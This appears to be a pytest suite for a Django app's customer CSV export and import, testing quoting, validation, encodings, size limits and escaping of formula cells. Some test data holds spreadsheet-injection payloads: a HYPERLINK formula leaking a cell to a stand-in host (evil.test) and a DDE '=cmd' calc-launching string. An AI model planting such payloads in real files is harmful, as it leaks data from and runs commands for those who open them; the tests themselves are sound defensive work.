"""CSV export and import of customers through the owner app."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tenant_apps.customers.csv_io import IMPORT_MAX_BYTES, cell_escape, cell_unescape
from tenant_apps.customers.models import Customer
from tests.factories.catalog import CustomerFactory

EXPORT = "/app/customers/export.csv"
IMPORT = "/app/customers/import/"
FIELDS = ["full_name", "email", "phone", "tags", "notes", "marketing_consent"]


def _rows() -> list[tuple[object, ...]]:
    return list(Customer.objects.order_by("pk").values_list())


def _people() -> list[tuple[object, ...]]:
    return list(Customer.objects.order_by("email").values_list(*FIELDS))


def _export(client, **params) -> tuple[str, list[list[str]]]:  # type: ignore[no-untyped-def]
    response = client.get(EXPORT, params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _upload(client, content: str | bytes, *, name: str = "customers.csv", **options):  # type: ignore[no-untyped-def]
    raw = content.encode("utf-8") if isinstance(content, str) else content
    data = {
        "file": SimpleUploadedFile(name, raw, content_type="text/csv"),
        "mode": "all_or_nothing",
        "existing": "update",
        **options,
    }
    return client.post(IMPORT, data)


# --- export ------------------------------------------------------------------------------------


def test_export_writes_every_customer_with_proper_quoting(owner_client):
    CustomerFactory(
        full_name='Jane "JD" Doe',
        email="jane@example.test",
        phone="+44 20 7946 0001",
        tags=["VIP", "prenatal"],
        notes="Line one,\nline two",
        marketing_consent=True,
    )
    CustomerFactory(full_name="Ben", email="ben@example.test")

    text, rows = _export(owner_client)

    assert text.startswith("\ufeffname,email,phone,tags,notes,marketing_consent\r\n")
    assert '"Jane ""JD"" Doe"' in text
    assert rows == [
        ["name", "email", "phone", "tags", "notes", "marketing_consent"],
        ["Ben", "ben@example.test", "", "", "", "no"],
        [
            'Jane "JD" Doe',
            "jane@example.test",
            "'+44 20 7946 0001",  # starts with +: written as text
            "VIP, prenatal",
            "Line one,\nline two",
            "yes",
        ],
    ]


def test_export_neutralises_formula_cells(owner_client):
    CustomerFactory(
        full_name='=HYPERLINK("http://evil.test?"&A1,"click")',
        email="a@example.test",
        notes="@SUM(1+1)",
        tags=["-2+3", "+cmd"],
    )
    CustomerFactory(full_name="\tTabbed", email="b@example.test", notes="-10 credits")

    _, rows = _export(owner_client)
    rows[1:] = sorted(rows[1:], key=lambda row: row[1])

    assert rows[1][0] == '\'=HYPERLINK("http://evil.test?"&A1,"click")'
    assert rows[1][3] == "'-2+3, +cmd"
    assert rows[1][4] == "'@SUM(1+1)"
    assert rows[2][0] == "'\tTabbed"
    assert rows[2][4] == "'-10 credits"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_export_of_a_filtered_list_holds_only_the_matches(owner_client):
    CustomerFactory(full_name="Anna", tags=["VIP"])
    CustomerFactory(full_name="Ben")

    response = owner_client.get(EXPORT, {"tag": "vip"})
    _, rows = _export(owner_client, tag="vip")

    assert [row[0] for row in rows[1:]] == ["Anna"]
    assert 'filename="customers-' in response["Content-Disposition"]
    assert response["Content-Disposition"].endswith('-filtered.csv"')
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    "value", ["=1+1", "+44", "-x", "@a", "\tx", "plain", "'quoted", "'=already", ""]
)
def test_escaping_round_trips(value):
    assert cell_unescape(cell_escape(value)) == value


# --- round trip ----------------------------------------------------------------------------


def test_export_then_import_gives_the_same_customers(owner_client):
    CustomerFactory(
        full_name='Jane "JD" Doe',
        email="Jane@Example.test",
        phone="+44 20 7946 0001",
        tags=["VIP", "prenatal"],
        notes="=not a formula\nsecond line, with comma",
        marketing_consent=True,
    )
    CustomerFactory(full_name="@ben", email="ben@example.test", tags=["-5"], notes="Ünïcødé ✓")
    CustomerFactory(full_name="Cleo", email="cleo@example.test")
    before = _people()
    text, _ = _export(owner_client)

    Customer.objects.all().delete()
    response = _upload(owner_client, text)

    assert response.status_code == 200, response.context["form"].errors
    result = response.context["result"]
    assert (result.created, result.updated, result.errors, result.written) == (3, 0, (), True)
    assert _people() == before
    # Importing the same file again changes nothing.
    again = _upload(owner_client, text).context["result"]
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
    assert _people() == before


# --- import rules ------------------------------------------------------------------------------


def test_import_reports_every_bad_row_and_writes_nothing_by_default(owner_client):
    CustomerFactory(email="known@example.test", full_name="Known")
    before = _rows()
    content = (
        "name,email,phone,tags,notes,marketing_consent\n"
        "Good One,good@example.test,,,,yes\n"
        ",nameless@example.test,,,,\n"
        "Bad Mail,not-an-email,,,,\n"
        "Bad Phone,phone@example.test,call me,,,\n"
        "Bad Consent,consent@example.test,,,,maybe\n"
        "Twice,good@example.test,,,,\n"
        "No Email,,,,,\n"
    )

    response = _upload(owner_client, content)

    assert response.status_code == 422
    result = response.context["result"]
    assert result.written is False
    assert [(e.line, e.email, e.messages) for e in result.errors] == [
        (3, "nameless@example.test", ("name: enter the customer's name.",)),
        (4, "not-an-email", ("email: Enter a valid email address.",)),
        (5, "phone@example.test", ("phone: Enter a phone number, e.g. +44 20 7946 0321.",)),
        (6, "consent@example.test", ("marketing_consent: use yes or no.",)),
        (7, "good@example.test", ("email: this address is already on line 2.",)),
        (8, "", ("email: enter the customer's email address.",)),
    ]
    assert _rows() == before
    content_html = response.content.decode()
    assert "Nothing was imported" in content_html
    assert "this address is already on line 2." in content_html


def test_import_valid_rows_keeps_the_good_ones_and_lists_the_rest(owner_client):
    content = "name,email\nGood,good@example.test\nBad,not-an-email\n"

    response = _upload(owner_client, content, mode="valid_rows")

    assert response.status_code == 200
    result = response.context["result"]
    assert (result.created, result.written, [e.line for e in result.errors]) == (1, True, [3])
    assert list(Customer.objects.values_list("email", flat=True)) == ["good@example.test"]


def test_existing_customers_are_updated_from_non_empty_cells(owner_client):
    known = CustomerFactory(
        full_name="Known", email="known@example.test", phone="+44 20 7946 0001", notes="keep me"
    )
    content = "email,name,phone,notes,tags\nKNOWN@example.test,Known Person,,,VIP;Regular\n"

    result = _upload(owner_client, content).context["result"]

    assert (result.created, result.updated, result.errors) == (0, 1, ())
    known.refresh_from_db()
    assert (known.full_name, known.email, known.phone, known.notes, known.tags) == (
        "Known Person",
        "known@example.test",  # the stored spelling stays
        "+44 20 7946 0001",
        "keep me",
        ["VIP", "Regular"],
    )


def test_existing_customers_are_left_alone_when_asked(owner_client):
    known = CustomerFactory(full_name="Known", email="known@example.test")
    before = _rows()

    result = _upload(
        owner_client, "name,email\nRenamed,known@example.test\n", existing="skip"
    ).context["result"]

    assert (result.created, result.updated, result.skipped) == (0, 0, 1)
    assert _rows() == before
    known.refresh_from_db()
    assert known.full_name == "Known"


def test_check_the_file_writes_nothing(owner_client):
    response = owner_client.post(
        IMPORT,
        {
            "file": SimpleUploadedFile("c.csv", b"name,email\nA,a@example.test\n"),
            "mode": "all_or_nothing",
            "existing": "update",
            "check": "1",
        },
    )

    assert response.status_code == 200
    result = response.context["result"]
    assert (result.created, result.written) == (1, False)
    assert not Customer.objects.exists()
    assert "Check finished: nothing was imported yet" in response.content.decode()


def test_semicolon_files_headers_in_any_case_and_windows_encoding(owner_client):
    content = (
        "Full Name;E-mail;Phone Number;Member since\r\nRené Müller;rene@example.test;;2020\r\n"
    )

    response = _upload(owner_client, content.encode("cp1252"))

    assert response.context["result"].created == 1
    assert response.context["ignored_columns"] == ("Member since",)
    assert Customer.objects.get().full_name == "René Müller"


def test_quoted_cells_spanning_lines_report_the_line_the_row_starts_on(owner_client):
    content = 'name,email,notes\nA,a@example.test,"two\nlines"\nB,bad,\n'

    result = _upload(owner_client, content, mode="valid_rows").context["result"]

    assert [e.line for e in result.errors] == [4]
    assert Customer.objects.get().notes == "two\nlines"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The submitted file is empty."),
        (b"  \n", "The file is empty."),
        (b"name,email\n", "The file has a header but no customers."),
        (b"first,last\nA,B\n", "we found no name and email column"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "This is not a CSV text file."),
        (
            b'name,email\n"unterminated,a@b.test\n',
            "The file is not valid CSV (line 2): unexpected end of data.",
        ),
        (b'name,email\n"a"b,a@b.test\n', "The file is not valid CSV (line 2)"),
    ],
)
def test_unreadable_files_are_refused_beside_the_file_field(owner_client, content, message):
    before = _rows()

    response = _upload(owner_client, content)

    assert response.status_code == 422
    assert message in response.context["form"].errors["file"][0]
    assert _rows() == before


def test_a_file_over_the_size_limit_is_refused(owner_client):
    line = "Someone,someone@example.test,,,,\n"
    content = "name,email,phone,tags,notes,marketing_consent\n" + line * (
        IMPORT_MAX_BYTES // len(line) + 1
    )

    response = _upload(owner_client, content)

    assert response.status_code == 422
    assert response.context["form"].errors["file"] == [
        "The file is larger than 1 MB. Split it into smaller files."
    ]
    assert not Customer.objects.exists()


def test_import_without_a_file_asks_for_one(owner_client):
    response = owner_client.post(IMPORT, {"mode": "all_or_nothing", "existing": "update"})

    assert response.status_code == 422
    assert response.context["form"].errors == {"file": ["This field is required."]}


def test_formula_cells_in_an_import_are_stored_as_text_and_exported_escaped(owner_client):
    content = "name,email,notes\n\"=cmd|' /C calc'!A0\",evil@example.test,@SUM(A1)\n"

    _upload(owner_client, content)

    customer = Customer.objects.get()
    assert (customer.full_name, customer.notes) == ("=cmd|' /C calc'!A0", "@SUM(A1)")
    _, rows = _export(owner_client)
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[1][4] == "'@SUM(A1)"
    page = owner_client.get("/app/customers/").content.decode()
    assert "=cmd|&#x27; /C calc&#x27;!A0" in page  # shown as text, escaped
